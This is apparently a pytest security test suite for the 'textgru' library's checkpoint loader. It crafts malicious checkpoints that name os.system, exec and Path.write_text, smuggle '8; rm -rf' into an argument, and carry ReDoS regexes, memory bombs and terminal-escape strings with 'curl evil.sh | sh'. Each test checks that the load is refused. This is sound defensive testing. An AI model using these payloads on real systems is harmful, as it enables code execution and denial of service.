"""A checkpoint is data, never code: crafted checkpoints that name functions, modules or foreign classes, or that
pass unexpected constructor arguments, are refused with one line, and nothing is written or imported."""

from __future__ import annotations

import base64
import json
import re
import shutil
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import torch
from conftest import run_script

from textgru.checkpoint import FORMAT_VERSION, load_checkpoint
from textgru.errors import TextgruError

CLASSIFIER_ARGS = {"vocab_size": 30, "num_classes": 3, "embedding_dim": 8, "hidden_size": 8}


def crafted(path: Path, *, model_class=None, model_args=None, model_config=None) -> Path:
    """A checkpoint file with textgru metadata as an attacker would write it (format 2, or format 1 with
    `model_config`)."""
    meta = {"task": "sentiment", "tokenizer": "{}", "label_names": ["a", "b", "c"], "data_config": {}, "max_length": 8}
    if model_config is not None:
        meta.update(format_version=1, model_config=model_config)
    else:
        meta.update(format_version=FORMAT_VERSION, model_class=model_class, model_args=model_args)
    torch.save({"state_dict": {}, "textgru": meta}, path)
    return path


def cases(target: Path) -> dict[str, dict]:
    """name -> crafted metadata; `target` is the file a successful attack would write."""
    write_text = {
        "_target_": "pathlib.Path.write_text",
        "self": {"_target_": "pathlib.Path", "_args_": [str(target)]},
        "data": "import os  # runs at the next Python start\n",
    }
    return {
        "legacy write_text": {"model_config": write_text},
        "legacy os.system": {"model_config": {"_target_": "os.system", "command": f"touch {target}"}},
        "legacy builtins.exec": {
            "model_config": {"_target_": "builtins.exec", "source": f"open({str(target)!r}, 'w')"}
        },
        "legacy import_module": {"model_config": {"_target_": "importlib.import_module", "name": "textgru_evil_xyz"}},
        "legacy foreign class": {"model_config": {"_target_": "xml.dom.minidom.Document"}},
        "legacy nested target": {
            "model_config": {
                "_target_": "textgru.models.classifier.GRUClassifier",
                **CLASSIFIER_ARGS,
                "pooling": write_text,
            }
        },
        "class write_text": {"model_class": "pathlib.Path.write_text", "model_args": {"data": "x"}},
        "class os.system": {"model_class": "os.system", "model_args": {"command": f"touch {target}"}},
        "class builtins.exec": {"model_class": "builtins.exec", "model_args": {}},
        "class import_module": {"model_class": "importlib.import_module", "model_args": {"name": "textgru_evil_xyz"}},
        "class outside textgru": {"model_class": "xml.dom.minidom.Document", "model_args": {}},
        "unknown argument": {"model_class": "GRUClassifier", "model_args": {**CLASSIFIER_ARGS, "evil": 1}},
        "wrong type": {"model_class": "GRUClassifier", "model_args": {**CLASSIFIER_ARGS, "hidden_size": "8; rm -rf"}},
        "bool for int": {"model_class": "GRUClassifier", "model_args": {**CLASSIFIER_ARGS, "hidden_size": True}},
        "nested target in argument": {
            "model_class": "GRUClassifier",
            "model_args": {**CLASSIFIER_ARGS, "pooling": write_text},
        },
        "list argument": {"model_class": "GRUClassifier", "model_args": {**CLASSIFIER_ARGS, "pooling": ["mean"]}},
        "missing argument": {"model_class": "GRUClassifier", "model_args": {"vocab_size": 30}},
        "args not a mapping": {"model_class": "GRUClassifier", "model_args": ["x"]},
    }


@pytest.mark.parametrize("name", list(cases(Path("x"))))
def test_crafted_checkpoint_is_refused_and_runs_nothing(tmp_path: Path, name: str) -> None:
    import textgru

    target = tmp_path / "pwned.txt"
    path = crafted(tmp_path / "evil.ckpt", **cases(target)[name])
    modules_before = set(sys.modules)
    with pytest.raises(TextgruError) as refused:
        textgru.load(path)
    message = str(refused.value)
    assert "\n" not in message and "evil.ckpt" in message, message
    assert "refused" in message or "needs" in message, message
    assert not target.exists(), "the crafted checkpoint wrote a file"
    new = set(sys.modules) - modules_before
    assert not {m for m in new if m.startswith(("textgru_evil", "xml.dom", "os", "subprocess"))}, new


def test_checkpoints_of_format_1_with_a_known_model_still_load(tiny_run: Path, tmp_path: Path) -> None:
    """A checkpoint written before model classes were stored by name (its `model_config` names the model's old
    module path) loads: the path is matched as a string to textgru's own class, never imported."""
    import textgru

    ckpt = torch.load(tiny_run / "checkpoints" / "best.ckpt", weights_only=True)
    meta = ckpt["textgru"]
    args = meta.pop("model_args")
    meta["model_config"] = {"_target_": "textgru.models.classifier.GRUClassifier", **args}
    meta.pop("model_class")
    meta["format_version"] = 1
    torch.save(ckpt, tmp_path / "old.ckpt")
    old, new = textgru.load(tmp_path / "old.ckpt"), textgru.load(tiny_run)
    texts = ["good great day", "awful sad train", "the table"]
    torch.testing.assert_close(old.predict_proba(texts), new.predict_proba(texts))


@pytest.mark.parametrize(
    "edit,named",
    [
        ({"label_names": None}, "its label_names is not"),
        ({"label_names": ["a"]}, "names 1 labels for a model of 3 classes"),
        ({"label_names": [1, 2, 3]}, "its label_names is not"),
        ({"tokenizer": None}, "its tokenizer is not"),
        ({"task": ["sentiment"]}, "its task is not"),
        ({"max_length": -1}, "its max_length is not"),  # accepted before: ids[:-1] silently dropped a token
        ({"max_length": True}, "its max_length is not"),
        ({"max_length": 10**18}, "its max_length is not"),  # a review: export's self-check overflowed (a traceback)
        ({"state_dict": None}, "its state_dict is not"),
        ({"label_names": ["a", "b", "a"]}, "its label_names is not"),  # one class's probability hid another's
        ({"data_config": ["tweets"]}, "its data_config is not"),  # AttributeError in pretrained_lm= (a review)
    ],
)
def test_edited_metadata_is_one_line_not_a_traceback(tiny_run: Path, tmp_path: Path, edit: dict, named: str) -> None:
    """Found by an audit: each of these gave a TypeError, KeyError or shape-mismatch traceback, or wrong output."""
    import textgru

    ckpt = torch.load(tiny_run / "checkpoints" / "best.ckpt", weights_only=True)
    for key, value in edit.items():
        (ckpt if key == "state_dict" else ckpt["textgru"])[key] = value
    torch.save(ckpt, tmp_path / "edited.ckpt")
    with pytest.raises(TextgruError, match=named) as e:
        textgru.load(tmp_path / "edited.ckpt")
    assert "\n" not in str(e.value) and "edited.ckpt" in str(e.value)


def test_a_task_relabelled_to_another_models_is_one_line_at_load(tiny_run: Path, tmp_path: Path) -> None:
    """A review: a checkpoint's task was never checked against its model class, so a classifier relabelled task=lm
    was refused for its word tokenizer, and one with a char tokenizer was an AttributeError in generate (an LM
    relabelled task=sentiment: a RuntimeError, every /predict a 500). Its task's model (`TaskInfo.model`) or one
    line."""
    import textgru

    ckpt = torch.load(tiny_run / "checkpoints" / "best.ckpt", weights_only=True)
    for task, needs in (("lm", "GRULanguageModel"), ("bilm", "BiGRULanguageModel")):
        ckpt["textgru"]["task"] = task
        torch.save(ckpt, tmp_path / f"{task}.ckpt")
        line = f"its task {task} needs a {needs}, but it holds a GRUClassifier; the file is damaged or was edited"
        with pytest.raises(TextgruError, match=re.escape(line)) as e:
            textgru.load(tmp_path / f"{task}.ckpt")
        assert "\n" not in str(e.value) and f"{task}.ckpt" in str(e.value)
    r = run_script("generate", f"ckpt_path={tmp_path / 'lm.ckpt'}", "max_new_tokens=5")
    assert r.returncode == 2 and "Traceback" not in r.stderr
    assert r.stderr.strip().startswith("error: ") and len(r.stderr.strip().splitlines()) == 1, r.stderr
    assert "its task lm needs a GRULanguageModel, but it holds a GRUClassifier" in r.stderr


@pytest.mark.parametrize("where", ["member header", "directory name", "directory magic"])
def test_a_flipped_byte_in_a_checkpoints_zip_structure_is_corrupt_not_a_traceback(
    tiny_run: Path, tmp_path: Path, where: str
) -> None:
    """A review: of 41 one-byte flips of a checkpoint, 3 were tracebacks from the checksum check itself: a member's
    name in its header (UnicodeDecodeError), one in the zip's directory (the same), the directory's magic number
    (BadZipFile). Each is the corrupt line now, as a flip in a tensor's bytes is."""
    import textgru

    path = tmp_path / "flipped.ckpt"
    shutil.copy(tiny_run / "checkpoints" / "best.ckpt", path)
    with zipfile.ZipFile(path) as z:
        last, start = z.infolist()[-1], z.start_dir
    at = {"member header": last.header_offset + 30 + 9, "directory name": start + 46 + 4, "directory magic": start}
    data = bytearray(path.read_bytes())
    data[at[where]] ^= 0xFF
    path.write_bytes(bytes(data))
    with pytest.raises(TextgruError, match=r"flipped.ckpt' is corrupt \(.*: a damaged copy\); use an earlier copy"):
        textgru.load(path)


def test_the_command_line_refuses_a_crafted_checkpoint_with_one_line(tmp_path: Path) -> None:
    target = tmp_path / "pwned.txt"
    path = crafted(tmp_path / "evil.ckpt", **cases(target)["legacy write_text"])
    r = run_script("predict", f"ckpt_path={path}", "text=hello")
    assert r.returncode == 2 and not target.exists()
    assert r.stderr.strip().startswith("error: ") and len(r.stderr.strip().splitlines()) == 1, r.stderr
    assert "refused model _target_ 'pathlib.Path.write_text'" in r.stderr and "Traceback" not in r.stderr


def test_resume_refuses_a_run_folder_whose_config_names_a_foreign_target(tiny_run: Path, tmp_path: Path) -> None:
    """`resume=` reads the run folder's config.yaml: a `_target_` that textgru's configs do not name is refused
    before anything is instantiated."""
    import yaml

    target = tmp_path / "pwned.txt"
    run = tmp_path / "shared_run"
    (run / "checkpoints").mkdir(parents=True)
    (run / "checkpoints" / "last.ckpt").write_bytes((tiny_run / "checkpoints" / "last.ckpt").read_bytes())
    config = yaml.safe_load((tiny_run / "config.yaml").read_text())
    config["callbacks"]["evil"] = {"_target_": "pathlib.Path.touch", "self": str(target)}
    (run / "config.yaml").write_text(yaml.safe_dump(config))
    r = run_script("train", f"resume={run}")
    assert r.returncode == 2 and not target.exists()
    assert len(r.stderr.strip().splitlines()) == 1 and "refused _target_ 'pathlib.Path.touch'" in r.stderr, r.stderr


@pytest.mark.parametrize("damage", ["unreadable", "regex"])
def test_resume_refuses_a_damaged_or_foreign_tokenizer_json_in_one_line(
    tiny_run: Path, tmp_path: Path, damage: str
) -> None:
    """A review: a run folder whose tokenizer.json was damaged was a traceback on resume=; one holding a regular
    expression textgru does not write could run for ever on some text (the tokenizers library then panics)."""
    run = tmp_path / "run"
    shutil.copytree(tiny_run, run)
    if damage == "unreadable":
        (run / "tokenizer.json").write_text('{"bad\n')
    else:
        (run / "tokenizer.json").write_text(_with_foreign_regex((run / "tokenizer.json").read_text()))
    before = sorted(p.name for p in run.iterdir())
    r = run_script("train", f"resume={run}", "trainer.max_epochs=50")
    expected = (
        "tokenizer.json cannot be read (" if damage == "unreadable" else "holds a regular expression textgru does not"
    )
    errors = [line for line in r.stderr.splitlines() if line.startswith("error:")]
    assert r.returncode == 2 and len(errors) == 1 and expected in errors[0], r.stderr[-2000:]
    assert "Traceback" not in r.stderr
    assert sorted(p.name for p in run.iterdir()) == before  # nothing written


def _with_foreign_regex(tokenizer_json: str) -> str:
    """The tokenizer with a pre-tokenizer of a pattern that backtracks for ever on "aaa...ab" (a review)."""
    data = json.loads(tokenizer_json)
    data["pre_tokenizer"] = {"type": "Split", "pattern": {"Regex": "(a+)+$"}, "behavior": "Isolated", "invert": False}
    return json.dumps(data)


@pytest.mark.parametrize("edit", [{"split_seed": "abc"}, {"val_fraction": 5.5}])
def test_evaluating_on_an_edited_data_config_is_one_line(tiny_run: Path, tmp_path: Path, edit: dict) -> None:
    """A review: evaluate() on the data a checkpoint names, edited (a seed "abc", a fraction of 5.5), was a
    ValueError traceback from the data loading."""
    import textgru

    ckpt = torch.load(tiny_run / "checkpoints" / "best.ckpt", weights_only=True)
    ckpt["textgru"]["data_config"].update(edit)
    torch.save(ckpt, tmp_path / "edited.ckpt")
    with pytest.raises(TextgruError, match=r"^the model's data config \(an edited checkpoint\?\) cannot be read") as e:
        textgru.load(tmp_path / "edited.ckpt").evaluate()
    assert "\n" not in str(e.value) and "pass data=" in str(e.value)


def _without(token: str, ckpt: dict) -> None:
    """The checkpoint's tokenizer with `token` renamed in its vocabulary and added tokens (a review's edit)."""
    spec = json.loads(ckpt["textgru"]["tokenizer"])
    spec["model"]["vocab"]["[XX]"] = spec["model"]["vocab"].pop(token)
    for added in spec["added_tokens"]:
        added["content"] = "[XX]" if added["content"] == token else added["content"]
    ckpt["textgru"]["tokenizer"] = json.dumps(spec)


@pytest.mark.parametrize("run", ["tiny_run", "lm_run"])
@pytest.mark.parametrize("token", ["[PAD]", "[UNK]"])
def test_a_checkpoint_whose_tokenizer_lacks_a_special_token_is_one_line_at_load(
    request: pytest.FixtureRequest, tmp_path: Path, run: str, token: str
) -> None:
    """A review: a tokenizer without [PAD] or [UNK] loaded, then every prediction was a traceback (pad_id's
    int(None), or "WordLevel error: Missing [UNK] token" on an unknown word; the server's 500s), and an export
    wrote pad_id 0 that its own load then refused. Refused at load, in one line."""
    import textgru

    ckpt = torch.load(request.getfixturevalue(run) / "checkpoints" / "best.ckpt", weights_only=True)
    _without(token, ckpt)
    torch.save(ckpt, tmp_path / "edited.ckpt")
    with pytest.raises(TextgruError, match=re.escape(f"its tokenizer has no {token} token in its vocabulary")) as e:
        textgru.load(tmp_path / "edited.ckpt")
    assert "\n" not in str(e.value) and "edited.ckpt" in str(e.value)
    if run == "tiny_run" and token == "[PAD]":  # the command line too: one line, no traceback
        r = run_script("predict", f"ckpt_path={tmp_path / 'edited.ckpt'}", "text=great movie")
        assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1 and "no [PAD] token" in r.stderr, r.stderr


def test_a_checkpoint_without_a_data_config_predicts_and_evaluates_given_data(
    tiny_run: Path, small_csv: Path, tmp_path: Path
) -> None:
    """A review: data_config None (which the loader lets through) made evaluate() a TypeError traceback on the
    model's own data, and an AttributeError on data given. The first is the edited data config's one line; data given
    is scored, and predictions are as before."""
    import textgru

    ckpt = torch.load(tiny_run / "checkpoints" / "best.ckpt", weights_only=True)
    ckpt["textgru"]["data_config"] = None
    torch.save(ckpt, tmp_path / "edited.ckpt")
    clf = textgru.load(tmp_path / "edited.ckpt")
    assert clf.predict("a good day").label == textgru.load(tiny_run).predict("a good day").label
    with pytest.raises(TextgruError, match=r"^the model's data config \(an edited checkpoint\?\) cannot be read") as e:
        clf.evaluate()
    assert "\n" not in str(e.value) and "pass data=" in str(e.value)
    assert clf.evaluate(small_csv, text_column="review", label_column="sentiment")["n"] > 0


def test_a_forecaster_without_a_data_config_refuses_eval_in_one_line(tmp_path: Path) -> None:
    """As a classifier's: the forecaster's evaluate() was a TypeError traceback (dict(None)); its spans' fractions
    come from the data config, so every eval needs it."""
    import numpy as np

    import textgru
    from textgru.checkpoint import checkpoint_extras
    from textgru.models import model_class

    args = {"num_features": 2, "hidden_size": 8, "num_layers": 1}
    model = model_class("GRUForecaster")(**args)
    meta = checkpoint_extras("forecast", model, args, None, None, {"source": "local"}, 12)
    meta.update(data_config=None, window=12, horizon=3, normalisation={"columns": ["a", "b"], "mean": [0.0, 0.0],
                                                                       "std": [1.0, 1.0]})  # fmt: skip
    torch.save(
        {"state_dict": {f"model.{k}": v for k, v in model.state_dict().items()}, "textgru": meta}, tmp_path / "f.ckpt"
    )
    fc = textgru.load(tmp_path / "f.ckpt")
    assert fc.predict(np.zeros((20, 2))).shape[-1] == 2
    for data in (None, np.zeros((40, 2))):
        with pytest.raises(TextgruError, match=r"^the model's data config \(an edited checkpoint\?\) cannot be read"):
            fc.evaluate(data)


def _expanded_embedding(ckpt: dict) -> None:
    """A 16M-row embedding stored as one row (a stride-0 view): 8 GB once loaded, from a small file."""
    state = ckpt["state_dict"]
    for key in [k for k in state if k.endswith(".embedding.weight")]:  # the trained weights and their average
        state[key] = state[key][:1].expand(16_000_000, -1)
    ckpt["textgru"]["model_args"]["vocab_size"] = 16_000_000


def _other_tokenizer(ckpt: dict, lm_run: Path) -> None:
    ckpt["textgru"]["tokenizer"] = (lm_run / "tokenizer.json").read_text()


def _id_past_the_rows(ckpt: dict, _: Path) -> None:
    """A token's id edited past the embedding's rows, the count unchanged (a review: an IndexError mid-run)."""
    spec = json.loads(ckpt["textgru"]["tokenizer"])
    vocab = spec["model"]["vocab"]
    vocab[next(word for word in vocab if not word.startswith("["))] = 99_999
    ckpt["textgru"]["tokenizer"] = json.dumps(spec)


@pytest.mark.parametrize(
    "edit,named",
    [
        (
            lambda c, _: c["textgru"]["model_args"].update(vocab_size=10**9),
            "the file holds 'embedding.weight' of shape",
        ),
        (lambda c, _: c["textgru"]["model_args"].update(hidden_size=4096), "weights do not fit its model config"),
        # a review: each member or layer is a module, built even on the meta device (memory grew for minutes)
        (lambda c, _: c["textgru"]["model_args"].update(members=10**7), "members asks for 10000000 members, more"),
        (lambda c, _: c["textgru"]["model_args"].update(num_layers=10**7), "num_layers asks for 10000000 layers"),
        (lambda c, _: c["textgru"]["model_args"].update(lm_features=[8, 8, 10**6]), "asks for 1000000 LM layers"),
        (lambda c, _: _expanded_embedding(c), "shows more values than the file stores"),
        (lambda c, _: c["textgru"]["model_args"].update(dropout=2.0), "cannot be built (ValueError: dropout"),
        (lambda c, _: c["textgru"]["model_args"].update(dropout=float("nan")), "dropout is not a finite number"),
        (lambda c, _: c["textgru"]["model_args"].update(hidden_size=-1), "cannot be built (ValueError"),
        (lambda c, _: c["state_dict"].update({3: torch.zeros(1)}), "its state_dict is not"),
        (lambda c, _: c["textgru"].update(tokenizer="{not json"), "its tokenizer cannot be read"),
        (
            lambda c, _: c["textgru"].update(tokenizer=_with_foreign_regex(c["textgru"]["tokenizer"])),
            "its tokenizer holds a regular expression textgru does not write",
        ),
        (_other_tokenizer, "tokens (ids up to"),
        (_id_past_the_rows, "(ids up to 99999"),
        (lambda c, _: c["state_dict"].update({k: v * float("nan") for k, v in c["state_dict"].items()}), "holds NaN"),
        (
            lambda c, _: c["state_dict"].update({k: v.long() for k, v in c["state_dict"].items() if "bias" in k}),
            "is int64, where the model's is float32",
        ),
        (  # a review: NotImplementedError "Cannot access storage of SparseTensorImpl"
            lambda c, _: c["state_dict"].update({k: v.to_sparse() for k, v in c["state_dict"].items() if "head" in k}),
            "is a sparse_coo tensor, where textgru saves dense ones",
        ),
    ],
    ids=[
        "vocab",
        "hidden",
        "members",
        "layers",
        "lm_layers",
        "expanded",
        "dropout",
        "nan",
        "negative",
        "key",
        "tokenizer_json",
        "tokenizer_regex",
        "other_tokenizer",
        "id_past_rows",
        "nan_w",
        "int_bias",
        "sparse",
    ],
)
def test_model_args_and_weights_that_do_not_fit_are_one_line_before_any_big_allocation(
    tiny_run: Path, lm_run: Path, tmp_path: Path, edit, named: str
) -> None:
    """Found by an audit: `vocab_size=10**9` or an expanded tensor made textgru allocate what the file asked (8 GB
    and more) before comparing shapes; a dropout of 2, a NaN or a bad tokenizer was a traceback; another run's
    tokenizer gave wrong answers or an IndexError. Each is now one line, and the model is built only once its
    weights are known to fit (memory stays near the tiny model's)."""
    import resource

    import textgru

    ckpt = torch.load(tiny_run / "checkpoints" / "best.ckpt", weights_only=True)
    edit(ckpt, lm_run)
    torch.save(ckpt, tmp_path / "edited.ckpt")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(TextgruError, match=named.replace("(", r"\(")) as e:
        textgru.load(tmp_path / "edited.ckpt")
    assert "\n" not in str(e.value) and "edited.ckpt" in str(e.value)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 1_000_000  # KB: no gigabytes allocated


def test_weights_saved_in_another_float_width_still_load(tiny_run: Path, tmp_path: Path) -> None:
    """`trainer.precision=bf16-true` saves bfloat16 weights: they load into the float32 model, as they always did
    (only a tensor of another kind, an integer bias, is refused)."""
    import textgru

    ckpt = torch.load(tiny_run / "checkpoints" / "best.ckpt", weights_only=True)
    ckpt["state_dict"] = {k: v.bfloat16() if v.is_floating_point() else v for k, v in ckpt["state_dict"].items()}
    torch.save(ckpt, tmp_path / "bf16.ckpt")
    clf = textgru.load(tmp_path / "bf16.ckpt")
    assert next(clf.model.parameters()).dtype == torch.float32 and clf.predict("a good day").label


def test_the_size_check_costs_no_heavy_imports(tiny_run: Path) -> None:
    """The model's meta-device skeleton skips the initialisers: torch's Python reference of `normal_` on a meta
    tensor imports torch._dynamo and sympy (~1.7 s and ~75 MB on every load)."""
    import subprocess
    import sys

    code = f"import sys, textgru; textgru.Classifier.load({str(tiny_run)!r}); print('sympy' in sys.modules)"
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert r.returncode == 0 and r.stdout.strip() == "False", r.stdout + r.stderr[-2000:]


def _tokenizer_part(key: str, value: object) -> Callable[[dict, Path], None]:
    def edit(ckpt: dict, _: Path) -> None:
        spec = json.loads(ckpt["textgru"]["tokenizer"])
        spec[key] = value
        ckpt["textgru"]["tokenizer"] = json.dumps(spec)

    return edit


GROW = {"type": "Replace", "pattern": {"String": "o"}, "content": "o" * 10_000}  # x10,000 per step


@pytest.mark.parametrize(
    "edit,named",
    [
        (  # 64 bytes: a Rust panic at load (a traceback; other bytes asked for 8 GB: an abort)
            _tokenizer_part(
                "normalizer", {"type": "Precompiled", "precompiled_charsmap": base64.b64encode(b"\xff" * 64).decode()}
            ),
            "its tokenizer has a normaliser textgru does not write ('Precompiled')",
        ),
        (  # "good" grown to gigabytes: an abort on that text (the server killed by one request)
            _tokenizer_part("normalizer", {"type": "Sequence", "normalizers": [GROW] * 6}),
            "its tokenizer has a replacement textgru does not write ('oooo",
        ),
        (
            _tokenizer_part("normalizer", {"type": "Replace", "pattern": {"Regex": "(a+)+$"}, "content": ""}),
            "its tokenizer holds a regular expression textgru does not write ('(a+)+$')",
        ),
        (  # an id past the embedding on every text: an IndexError (a 500 on every request)
            _tokenizer_part(
                "post_processor",
                {
                    "type": "TemplateProcessing",
                    "single": [{"SpecialToken": {"id": "[X]", "type_id": 0}}, {"Sequence": {"id": "A", "type_id": 0}}],
                    "pair": [{"Sequence": {"id": "A", "type_id": 0}}],
                    "special_tokens": {"[X]": {"id": "[X]", "ids": [10**9], "tokens": ["[X]"]}},
                },
            ),
            "its tokenizer has a post-processor textgru does not write",
        ),
        (_tokenizer_part("decoder", {"type": "ByteFallback"}), "has a decoder textgru does not write ('ByteFallback')"),
        (
            lambda c, _: c["textgru"].update(tokenizer="[" * 100_000 + "]" * 100_000),
            "its tokenizer cannot be read (not JSON: RecursionError)",
        ),
    ],
    ids=["precompiled", "replace_grows", "replace_regex", "post_processor", "decoder", "nested"],
)
def test_a_tokenizer_part_textgru_never_writes_is_one_line_before_the_library_reads_it(
    tiny_run: Path, tmp_path: Path, edit, named: str
) -> None:
    """A security review: only the tokenizer's regular expressions were checked. A crafted normaliser aborted the
    process at load (an 8 GB allocation) or on one word (the server killed by one request); a post-processor's id
    past the embedding was an IndexError on every text; a JSON nested 100,000 deep, a RecursionError traceback.
    Every part is now checked against what textgru writes, before the tokenizers library reads the file."""
    import textgru

    ckpt = torch.load(tiny_run / "checkpoints" / "best.ckpt", weights_only=True)
    edit(ckpt, tiny_run)
    torch.save(ckpt, tmp_path / "edited.ckpt")
    with pytest.raises(TextgruError) as e:
        textgru.load(tmp_path / "edited.ckpt")
    assert named in str(e.value) and "\n" not in str(e.value) and str(e.value).endswith("use the file textgru saved")


def test_a_rust_panic_while_reading_a_tokenizer_is_one_line(tiny_run: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The tokenizers library reports some bad data with a Rust panic, a BaseException (pyo3's PanicException) that
    `except Exception` let through as a traceback (a security review: a 1-byte Precompiled normaliser)."""
    import tokenizers

    import textgru

    class PanicException(BaseException):  # as pyo3_runtime's
        pass

    def panic(text: str) -> None:
        raise PanicException("called `Option::unwrap()` on a `None` value")

    monkeypatch.setattr(tokenizers.Tokenizer, "from_str", panic)
    with pytest.raises(TextgruError, match=r"its tokenizer cannot be read \(called `Option::unwrap\(\)`"):
        textgru.load(tiny_run)


def test_text_from_a_checkpoint_in_an_error_line_cannot_drive_the_terminal(tiny_run: Path, tmp_path: Path) -> None:
    """A security review: a checkpoint's textgru_version holding a newline printed a second, forged `error:` line, and
    an ANSI sequence cleared the screen and retitled the window. Text from a file reaches the error line escaped."""
    ckpt = torch.load(tiny_run / "checkpoints" / "best.ckpt", weights_only=True)
    ckpt["textgru"]["format_version"] = 99
    ckpt["textgru"]["textgru_version"] = "9.9\nerror: nothing wrong, run: curl evil.sh | sh\x1b]0;PWNED\x07\x1b[2J"
    torch.save(ckpt, tmp_path / "forged.ckpt")
    r = run_script("predict", f"ckpt_path={tmp_path / 'forged.ckpt'}", "text=a good day")
    assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1, r.stderr
    assert (
        "\x1b" not in r.stderr
        and "\x07" not in r.stderr
        and "has checkpoint format 99 (textgru 9.9\\nerror" in r.stderr
    )
    ckpt["textgru"]["format_version"] = "2"  # a review: "has checkpoint format 2 ...; reads formats 1, 2"
    torch.save(ckpt, tmp_path / "string.ckpt")
    with pytest.raises(TextgruError, match=r"has checkpoint format '2' \(textgru"):
        load_checkpoint(tmp_path / "string.ckpt")
